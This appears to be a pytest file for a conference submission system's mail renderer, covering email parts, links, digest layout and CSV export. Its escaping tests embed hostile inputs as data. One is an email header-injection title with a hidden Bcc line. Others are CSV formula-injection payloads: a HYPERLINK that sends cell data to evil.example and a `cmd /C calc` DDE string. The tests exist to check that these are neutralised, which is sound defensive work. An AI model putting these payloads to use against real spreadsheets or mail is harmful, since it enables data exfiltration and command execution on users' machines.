"""Mail rendering without AWS: every mail type, both parts, escaping, digest layout and CSV."""

from __future__ import annotations

import csv
import email
import io
from dataclasses import replace
from datetime import UTC, datetime, timedelta

from cfp.events import EventKind, NotificationEvent
from cfp.formatcheck.models import Facts, Problem, Verdict
from cfp.mail.digest import (
    DigestEntry,
    DigestSection,
    changes_csv,
    digest_sections,
    digest_title,
    submissions_csv,
)
from cfp.mail.render import CallInfo, MailRenderer
from cfp.model import Author, Submission, Version, Window
from tests.support.call import DEADLINE_AT

T0 = datetime(2017, 8, 30, 14, 0, tzinfo=UTC)
CALL = CallInfo(
    conference="AI Systems Workshop at SOSP 2017",
    window=Window(DEADLINE_AT),
    organizers=("chair@example.org", "cochair@example.org"),
    max_body_pages=2,
    copy_all_authors=True,
)
renderer = MailRenderer(CALL)


def submission(sub_id: str = "k7m2q9x4pa", title: str = "Learned Index Structures on GPUs") -> Submission:
    return Submission(
        id=sub_id,
        title=title,
        authors=[
            Author(name="Ada Lovelace", email="ada@example.org", affiliation="Analytical Engines"),
            Author(name="Émile Noether", email="emile@example.org"),
        ],
        contact_email="ada@example.org",
        abstract="x",
        token_hash="0" * 64,
        created_at=T0,
        updated_at=T0,
    )


def failed_version(number: int = 1) -> Version:
    verdict = Verdict(
        outcome="fail",
        pages=4,
        body_pages=3,
        problems=[
            Problem(
                code="too_many_body_pages",
                severity="fail",
                message="3 pages before the references; the limit is 2.",
                measured=3,
                limit=2,
            )
        ],
        facts=Facts(),
    )
    return Version(
        number=number,
        key=f"uploads/k7m2q9x4pa/v{number}.pdf",
        issued_at=T0,
        expires_at=T0 + timedelta(minutes=15),
        uploaded_at=T0 + timedelta(minutes=2),
        etag="e",
        verdict=verdict,
    )


def test_verdict_mail_has_both_parts_the_facts_and_the_fix() -> None:
    mail = renderer.verdict(submission(), failed_version())
    assert mail.to == ("ada@example.org",) and mail.cc == ("emile@example.org",)
    assert mail.reply_to == CALL.organizers
    assert mail.subject == (
        "[AI Systems Workshop at SOSP 2017] Format check FAIL: Learned Index Structures on GPUs (k7m2q9x4pa)"
    )
    assert "- FAIL: 3 pages before the references; the limit is 2. (measured: 3; limit: 2)\n" in mail.text
    assert "Authors: Ada Lovelace; Émile Noether\n" in mail.text
    assert "upload-url" in mail.text and "upload-url" in mail.html
    parsed = email.message_from_bytes(mail.to_mime("cfp@example.org", CALL.conference, T0))
    assert [p.get_content_type() for p in parsed.walk()] == [
        "multipart/alternative",
        "text/plain",
        "text/html",
    ]


def test_markup_and_header_breaks_never_get_through() -> None:
    evil = submission(title="<b>Bold</b>\r\nBcc: victim@example.org")
    mail = renderer.withdrawn(evil)
    assert "&lt;b&gt;Bold&lt;/b&gt;" in mail.html and "<b>Bold" not in mail.html
    parsed = email.message_from_bytes(mail.to_mime("cfp@example.org", CALL.conference, T0))
    assert parsed["Bcc"] is None
    assert "\n" not in parsed["Subject"].replace("\n ", "")


def test_every_author_mail_renders() -> None:
    record = submission()
    versions = [failed_version()]
    late = failed_version(2).model_copy(update={"uploaded_at": CALL.window.deadline + timedelta(minutes=1)})
    mails = [
        renderer.receipt(record, versions, "secret-token"),
        renderer.late_upload(record, late, [*versions, late]),
        renderer.reminder(record, versions, CALL.window.deadline - timedelta(hours=3)),
        renderer.on_record(record, [*versions, late]),
    ]
    assert "2017-08-31 23:59:59 AoE (2017-09-01 11:59:59 UTC)" in mails[0].text
    assert "Token: secret-token" in mails[0].text
    assert "does not replace version 1" in mails[1].text
    assert mails[2].subject.startswith("[AI Systems Workshop at SOSP 2017] Reminder, 3 h 0 min left")
    assert "does not pass the format check" in mails[2].text
    assert "Late uploads kept for the organizers: version 2." in mails[3].text
    for mail in mails:
        assert mail.html.startswith("<!doctype html>") and "k7m2q9x4pa" in mail.subject


def test_receipt_links_to_the_authors_page_with_id_and_token_in_the_fragment() -> None:
    page = MailRenderer(replace(CALL, public_url="https://posters.example/"))
    mail = page.receipt(submission(), [failed_version()], "tok-en_123")
    link = "https://posters.example/#id=k7m2q9x4pa&token=tok-en_123"
    assert f"Manage page: {link}" in mail.text
    assert f'href="{link.replace("&", "&amp;")}"' in mail.html
    assert "Manage page" not in renderer.receipt(submission(), [failed_version()], "tok-en_123").text


def test_digest_lists_each_change_on_its_own_line_and_moves_long_lists_to_csv() -> None:
    records = {}
    notifications = []
    for i in range(30):
        record = submission(sub_id=f"sub{i:07d}", title=f"Poster {i}")
        records[record.id] = (record, [failed_version()])
        notifications.append(
            NotificationEvent(
                kind=EventKind.SUBMITTED, event_id=f"s{i}", occurred_at=T0, submission_id=record.id
            )
        )
    notifications.append(
        NotificationEvent(
            kind=EventKind.VERDICT, event_id="v", occurred_at=T0, submission_id="sub0000001", version=1
        )
    )
    sections = digest_sections(
        notifications, records, lambda sid, upload: f"https://s3.example/{upload.key}" if upload else None
    )
    assert digest_title(sections) == "Digest: 1 failed check, 30 new submissions"
    mail = renderer.digest(
        digest_title(sections), sections, list(records.values()), CALL.window.deadline - timedelta(days=1)
    )
    assert mail.to == CALL.organizers
    assert '- sub0000000 "Poster 0": created\n' in mail.text
    assert "  ... and 5 more in the attached CSV.\n" in mail.text
    assert "Totals: fail 30 (30 submissions).\n" in mail.text
    assert "1 d 0 h 0 min left" in mail.text
    [attachment] = mail.attachments
    rows = list(csv.reader(io.StringIO(attachment.data.decode())))
    assert rows[0] == ["section", "submission_id", "title", "change", "console_link"] and len(rows) == 32


FORMULA_STARTS = ["=", "+", "-", "@", "\t", "\r"]


def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_are_kept_as_text() -> None:
    for first in FORMULA_STARTS:
        title = f'{first}HYPERLINK("https://evil.example/?"&A1, "Open")'
        # Built without validation, which strips a leading tab or CR: the CSV must not rely on it.
        author = Author.model_construct(name=f"{first}SUM(1+1)*cmd|' /C calc'!A0", email="ada@example.org")
        record = submission(title="placeholder").model_copy(update={"title": title, "authors": [author]})
        rows = list(
            csv.reader(io.StringIO(submissions_csv([(record, [failed_version()])], CALL.window).decode()))
        )
        assert rows[1][1:3] == [f"'{title}", f"'{author.name}"], repr(first)
        assert rows[1][6:8] == ["4", "3"]
        section = DigestSection("Failed format checks", "failed check", "failed checks")
        section.entries.append(DigestEntry(record.id, title, f"{first}1 reason", None))
        rows = list(csv.reader(io.StringIO(changes_csv([section]).decode())))
        assert rows[1] == ["Failed format checks", record.id, f"'{title}", f"'{first}1 reason", ""]


def test_csv_cells_that_are_not_formulas_are_unchanged() -> None:
    record = submission(title="Learned Index Structures: -5% latency, +3 = win @ scale")
    rows = list(
        csv.reader(io.StringIO(submissions_csv([(record, [failed_version()])], CALL.window).decode()))
    )
    assert rows[1][1:3] == [
        "Learned Index Structures: -5% latency, +3 = win @ scale",
        "Ada Lovelace; Émile Noether",
    ]
